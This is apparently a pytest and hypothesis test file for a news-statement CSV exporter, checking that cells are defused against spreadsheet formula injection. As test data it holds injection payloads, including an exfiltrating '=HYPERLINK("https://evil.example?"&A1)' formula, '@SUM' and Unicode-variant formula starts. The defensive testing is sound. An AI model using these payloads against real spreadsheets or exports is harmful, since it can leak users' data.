"""The tables in CSV: what a reader reads back, and what no cell may start with."""

import csv
import io
import tracemalloc
import unicodedata
from collections.abc import Iterable
from dataclasses import replace

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from hearsay.present.export.cell import FORMULA, cell, defused
from hearsay.present.export.csv import FIGURE_COLUMNS, STATEMENT_COLUMNS, write_csv, write_figures_csv
from hearsay.records.ledger import Ledger
from tests.present.export.many import Sink, many
from tests.present.made import BRIDGE, HOSTILE_TEXT, QUIET, TEXT, hostile
from tests.records.drawn import ODD, ledgers

NASTY = ODD + "=+-@＝＋－＠﹢﹣﹦﹫⁺⁻−\t\r\n\v\f\u2028 \u00a0\u200b\ufeff\"'`;,|0'a"
texts = st.text(st.sampled_from(NASTY) | st.characters(), max_size=12)
NUMBERS = frozenset(
    "anonymous confidence source_confidence start end min max inclusive approximate base_min base_max".split()
)


def statements(*given: Ledger) -> list[dict[str, str]]:
    stream = io.StringIO(newline="")
    write_csv(given, stream)
    return list(csv.DictReader(io.StringIO(stream.getvalue(), newline=""), strict=True))


def figures(*given: Ledger) -> list[dict[str, str]]:
    stream = io.StringIO(newline="")
    write_figures_csv(given, stream)
    return list(csv.DictReader(io.StringIO(stream.getvalue(), newline=""), strict=True))


def is_formula(character: str) -> bool:
    return unicodedata.normalize("NFKC", character)[0] in "=+-@−"


def test_a_statement_is_a_row() -> None:
    fourth = statements(BRIDGE, QUIET)[3]
    assert fourth == {
        "document": "bridge-1",
        "title": "Swing bridge shut until autumn, harbour board says",
        "publisher": "Norda News",
        "published": "2026-05-04T18:05:00+02:00",
        "source_name": "Ruud Okafor",
        "source_kind": "person",
        "party": "",
        "anonymous": "false",
        "role": "chairman, the board",
        "via": "two officials who saw his letter",
        "cue": "believes",
        "content": "repairs will cost 40 million crowns",
        "mode": "indirect",
        "act": "estimate",
        "certainty": "probable",
        "said_on": "",
        "medium": "his letter",
        "confidence": "0.93",
        "source_confidence": "0.9",
        "url": "https://norda.example/bridge",
        "start": str(TEXT.index("repairs will")),
        "end": str(TEXT.index("crowns") + len("crowns")),
        "statement": "bridge-1-s4",
        "source": "chairman",
    }


def test_a_figure_is_a_row() -> None:
    cost, piers = figures(BRIDGE, QUIET)
    assert (cost["words"], cost["min"], cost["max"], cost["unit"]) == (
        "40 million crowns",
        "40000000",
        "40000000",
        "crowns",
    )
    assert (cost["source_name"], cost["question_label"]) == ("Ruud Okafor", "crowns that repairs will cost")
    assert (cost["measure"], cost["counted"], cost["tally"]) == ("repairs will cost", "", "plan")
    assert TEXT[int(cost["start"]) : int(cost["end"])] == cost["words"]
    assert (piers["source_name"], piers["anonymous"], piers["question"]) == ("", "", "")


def test_a_table_without_rows_has_its_header() -> None:
    stream = io.StringIO(newline="")
    write_csv([QUIET], stream)
    assert stream.getvalue() == ",".join(STATEMENT_COLUMNS) + "\r\n"


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+1", "-1", "@SUM(A1)", "＝1", "＋1", "－1", "＠a", "−1", "﹦1", "⁺1"),
        *("\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", '"=1', "'=1", "' \"=1", "``-1"),
        *("\tplain", "\rplain", "\nplain"),
    ],
)
def test_a_formula_is_defused(text: str) -> None:
    assert defused(text) == f"'{text}" or defused(text) == f"'{text[0]}'{text[1:]}"


@pytest.mark.parametrize("text", ["", " ", "a=1", "1-2", "'tis", '"so"', "“-5”", "x@y.example", "a; b", "a\nb"])
def test_what_is_no_formula_stays(text: str) -> None:
    assert defused(text) == text


def test_what_another_program_takes_for_a_cell_is_defused() -> None:
    assert defused('a;=1;b\t +2\r\n"@x') == "a;'=1;b\t' +2\r\n'\"@x"


@pytest.mark.parametrize(
    ("value", "said"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (-5, "-5"),
        (-5.0, "-5"),
        (-0.25, "-0.25"),
        (3e6, "3000000"),
        (1e21, "1e+21"),
        (float("inf"), "inf"),
        ("-5", "'-5"),
        ("a\x1b[2J\x00\ud800", "a␛[2J␀\ufffd"),
    ],
)
def test_a_number_is_told_by_its_type(value: str | float | None, said: str) -> None:
    assert cell(value) == said


@given(texts)
@example("\x00=1")
@settings(max_examples=400, deadline=None)
def test_no_cell_is_a_formula(text: str) -> None:
    made = cell(text)
    made.encode("utf-8")
    assert made[:1] not in (*FORMULA, "\t", "\r", "\n")
    assert not is_formula(made[:1] or "a")
    # Whatever program cuts it where: each part that holds a formula behind blanks and marks starts with an apostrophe.
    for part in made.replace("\r", "\n").replace("\t", "\n").replace(";", "\n").split("\n"):
        bare = part.lstrip(" \u00a0\"'")
        assert not (bare and is_formula(bare[0])) or part.startswith("'")
    # Nothing is lost but for the apostrophes.
    assert made.replace("'", "") == cell(text.replace("'", "")).replace("'", "")


@given(st.lists(st.lists(texts, min_size=2, max_size=4), max_size=4))
@settings(max_examples=100, deadline=None)
def test_cells_come_back(rows: list[list[str]]) -> None:
    stream = io.StringIO(newline="")
    made = [[cell(text) for text in row] for row in rows]
    csv.writer(stream, lineterminator="\r\n").writerows(made)
    assert list(csv.reader(io.StringIO(stream.getvalue(), newline=""), strict=True)) == made


@given(st.tuples(ledgers("d1"), ledgers("d2")))
@settings(max_examples=80, deadline=None)
def test_the_tables_come_back(pair: tuple[Ledger, Ledger]) -> None:
    for rows, entries in (
        (statements(*pair), [s for ledger in pair for s in ledger.statements]),
        (figures(*pair), [f for ledger in pair for f in ledger.figures]),
    ):
        assert len(rows) == len(entries)
        for row in rows:
            assert None not in row
            assert not [v for name, v in row.items() if name not in NUMBERS and v and is_formula(v[0])]
    texts = {ledger.documents[0].id: ledger.documents[0].text for ledger in pair}
    for row, figure in zip(figures(*pair), (f for ledger in pair for f in ledger.figures), strict=True):
        assert row["words"] == cell(texts[figure.document][int(row["start"]) : int(row["end"])])
        for column, value in (("min", figure.min), ("max", figure.max)):
            assert (float(row[column]) if row[column] else None) == value


def test_nothing_of_a_hostile_report_is_obeyed() -> None:
    formula = '=HYPERLINK("https://evil.example?"&A1)'
    (ledger,) = [hostile()]
    source = replace(ledger.sources[0], name=formula, role=" @SUM(1)", party="\t-1")
    document = replace(ledger.documents[0], title=formula, text="=" + HOSTILE_TEXT[1:])
    (row,) = statements(replace(ledger, sources=(source,), documents=(document,)))
    assert (row["source_name"], row["title"], row["via"]) == (f"'{formula}",) * 3
    assert (row["role"], row["party"]) == ("' @SUM(1)", "'\t'-1")
    assert row["content"].startswith("'=")
    assert not [c for value in row.values() for c in value if unicodedata.category(c) == "Cc" and c not in "\t\r\n"]


@pytest.mark.parametrize("columns", [STATEMENT_COLUMNS, FIGURE_COLUMNS])
def test_a_header_says_each_thing_once(columns: Iterable[str]) -> None:
    assert len(set(columns)) == len(list(columns))
    # A file that starts with "ID" is no table to Excel, but SYLK.
    assert next(iter(columns)) != "ID"


@pytest.mark.parametrize("write", [write_csv, write_figures_csv])
def test_memory_does_not_grow_with_the_documents(write) -> None:  # type: ignore[no-untyped-def]  # either writer
    def peak(count: int) -> int:
        tracemalloc.start()
        write(many(count), Sink())
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return most

    peak(10)
    assert peak(300) < peak(50) + 100_000
